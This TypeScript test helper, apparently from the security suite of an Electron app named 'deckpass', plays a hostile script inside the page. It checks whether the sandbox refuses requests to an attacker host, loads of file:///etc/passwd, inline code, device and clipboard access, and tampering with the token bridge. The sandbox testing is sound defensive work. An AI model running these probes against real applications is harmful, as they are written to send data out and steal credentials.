/**
 * What a script tries that got into the page. It runs there, so it refers to nothing outside of itself. Each
 * attempt ends in a word: what was refused says so, and what was let through says what it got.
 */
export async function attack(enemy: string): Promise<Readonly<Record<string, string>>> {
  const outcome: Record<string, string> = {}
  const soon = () => new Promise((resolve) => setTimeout(resolve, 150))
  const note = async (name: string, attempt: () => unknown) => {
    try {
      const got = await Promise.race([attempt(), soon().then(() => 'nothing')])
      outcome[name] = String(got)
    } catch {
      outcome[name] = 'refused'
    }
  }
  const loaded = (element: HTMLElement, set: () => void) =>
    new Promise((resolve, reject) => {
      element.addEventListener('load', () => resolve('loaded'))
      element.addEventListener('error', () => reject(new Error('refused')))
      set()
      document.body.append(element)
    })
  const element = (name: string, attributes: Record<string, string>) => {
    const made = document.createElement(name)
    return loaded(made, () => {
      for (const [attribute, value] of Object.entries(attributes))
        made.setAttribute(attribute, value)
    })
  }
  const ran = () => Reflect.get(window, 'ran') ?? 'nothing'

  await note('fetch', () => fetch(`${enemy}/fetch`).then(() => 'sent'))
  await note('fetch without CORS', () =>
    fetch(`${enemy}/n`, { mode: 'no-cors' }).then(() => 'sent'),
  )
  await note('beacon', () => (navigator.sendBeacon(`${enemy}/beacon`), 'nothing'))
  await note('XHR', () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${enemy}/xhr`, false)
    request.send()
    return 'sent'
  })
  await note('WebSocket', () => {
    const socket = new WebSocket(enemy.replace('http', 'ws'))
    return new Promise((resolve, reject) => {
      socket.addEventListener('open', () => resolve('open'))
      socket.addEventListener('error', () => reject(new Error('refused')))
    })
  })
  await note('EventSource', () => void new EventSource(`${enemy}/events`))
  for (const [name, attributes] of [
    ['img', { src: `${enemy}/img` }],
    ['script', { src: `${enemy}/script` }],
    ['link', { rel: 'stylesheet', href: `${enemy}/css` }],
    ['link', { rel: 'prefetch', href: `${enemy}/prefetch` }],
    ['link', { rel: 'preconnect', href: enemy }],
    ['iframe', { src: `${enemy}/frame` }],
    ['iframe', { src: 'file:///etc/passwd' }],
    ['object', { data: `${enemy}/object` }],
    ['embed', { src: `${enemy}/embed` }],
    ['audio', { src: `${enemy}/audio`, autoplay: '' }],
    ['webview', { src: `${enemy}/webview` }],
  ] as const)
    await note(`<${name}> ${Object.values(attributes).join(' ')}`.replaceAll(enemy, ''), () =>
      element(name, { ...attributes }),
    )
  await note('inline script', async () => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = "ran"'
    document.body.append(script)
    await soon()
    return ran()
  })
  await note('inline handler', async () => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.ran = "ran"')
    button.click()
    return ran()
  })
  await note('javascript: link', async () => {
    const link = document.createElement('a')
    link.href = 'javascript:window.ran = "ran"'
    link.click()
    await soon()
    return ran()
  })
  // What a debugger runs may call eval; what a timer of its runs may not.
  await note(
    'eval',
    () =>
      new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(Reflect.get(window, 'eval')('"ran"'))
          } catch (error) {
            reject(error)
          }
        })
      }),
  )
  await note('import()', () => import(`${enemy}/module`).then(() => 'loaded'))
  await note(
    'Worker',
    () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
        worker.addEventListener('message', () => resolve('ran'))
        worker.addEventListener('error', () => reject(new Error('refused')))
      }),
  )
  await note('service worker', () => navigator.serviceWorker.register('/x.js').then(() => 'there'))
  await note('WebRTC', async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: enemy.replace('http://', 'stun:') },
        {
          urls: `${enemy.replace('http://', 'turn:')}?transport=tcp`,
          username: 'a',
          credential: 'b',
        },
      ],
    })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 1_500))
    return 'nothing'
  })
  await note('form', async () => {
    const form = document.createElement('form')
    form.action = `${enemy}/form`
    document.body.append(form)
    form.submit()
    await soon()
    return 'nothing'
  })
  await note('window.open', () => window.open(`${enemy}/open`))
  await note('window.open of itself', () => window.open(location.href))
  await note('download', async () => {
    const link = document.createElement('a')
    link.href = 'data:text/plain,x'
    link.download = 'x.txt'
    document.body.append(link)
    link.click()
    await soon()
    return 'nothing'
  })
  for (const address of [
    enemy,
    'file:///etc/passwd',
    'data:text/html,x',
    'app://deckpass/other.html',
  ])
    await note(`navigation to ${address === enemy ? 'elsewhere' : address}`, async () => {
      location.assign(address)
      await soon()
      return location.href === 'app://deckpass/index.html' ? 'nothing' : location.href
    })
  await note('alert', () => (alert('x'), 'nothing'))
  await note('print', () => (print(), 'nothing'))
  await note('notification', () => Notification.requestPermission())
  for (const name of ['midi', 'geolocation', 'clipboard-read', 'camera', 'microphone'] as const)
    await note(`permission ${name}`, async () => {
      const { state } = await navigator.permissions.query(Object.assign({ name }))
      return state
    })
  await note('MIDI', () => navigator.requestMIDIAccess().then(() => 'granted'))
  await note('camera', () =>
    navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted'),
  )
  await note('screen', () => navigator.mediaDevices.getDisplayMedia().then(() => 'granted'))
  await note('clipboard', () => navigator.clipboard.readText().then(() => 'read'))
  for (const name of ['hid', 'serial', 'usb', 'bluetooth'])
    await note(name, async () => {
      const device: unknown = Reflect.get(navigator, name)
      const method = name === 'serial' ? 'requestPort' : 'requestDevice'
      if (typeof device !== 'object' || device === null) return 'nothing'
      const got: unknown = await Reflect.apply(Reflect.get(device, method), device, [
        name === 'bluetooth' ? { acceptAllDevices: true } : { filters: [] },
      ])
      return Array.isArray(got) && got.length === 0 ? 'nothing' : 'granted'
    })
  for (const name of [
    'require',
    'process',
    'module',
    'Buffer',
    'global',
    'electron',
    'ipcRenderer',
  ])
    await note(`window.${name}`, () => typeof Reflect.get(window, name))
  await note('drag and drop of a file', async () => {
    const data = new DataTransfer()
    data.items.add(new File(['x'], 'x.html', { type: 'text/html' }))
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true }))
    await soon()
    return location.href === 'app://deckpass/index.html' ? 'nothing' : location.href
  })
  await note('changing the bridge', () => {
    Reflect.set(window.deckpass.token, 'get', () => 'mine')
    Reflect.set(window, 'deckpass', {})
    return Object.isFrozen(window.deckpass) && 'session' in window.deckpass ? 'nothing' : 'changed'
  })
  return outcome
}

/** Everything that the bridge offers, called without a click: what each call is answered with. */
export async function callAll(): Promise<Readonly<Record<string, unknown>>> {
  const answers: Record<string, unknown> = {}
  for (const [part, calls] of Object.entries(window.deckpass)) {
    if (part === 'snapshot') continue
    for (const [name, call] of Object.entries(calls)) {
      const arguments_ = [
        'beatport',
        { connection: 'beatport', browserToo: true, browser: 'x', keep: true },
      ]
      const got: unknown = await Reflect.apply(Object(call), undefined, [
        ...(part === 'token' ? [] : arguments_.slice(0, 1)),
        arguments_[1],
      ])
      answers[`${part}.${name}`] = got
    }
  }
  return answers
}

/**
 * Sends messages through the bridge as they are, but to what asks for nothing or opens a dialog: how often
 * each code came back.
 */
export async function sendAll(
  messages: readonly { readonly channel: string; readonly argument: unknown }[],
): Promise<Readonly<Record<string, number>>> {
  const seen: Record<string, number> = {}
  for (const { channel, argument } of messages) {
    const [part = '', name = ''] = channel.split('.')
    if (!['session', 'settings', 'connections', 'token'].includes(part)) continue
    const call: unknown = Reflect.get(Object(Reflect.get(window.deckpass, part)), name)
    if (typeof call !== 'function') continue
    let code = 'unsendable'
    try {
      const answer: unknown = await Reflect.apply(call, undefined, [argument, argument])
      code = String(Object(answer).code)
    } catch {
      // The bridge copies no such value.
    }
    seen[code] = (seen[code] ?? 0) + 1
  }
  return seen
}
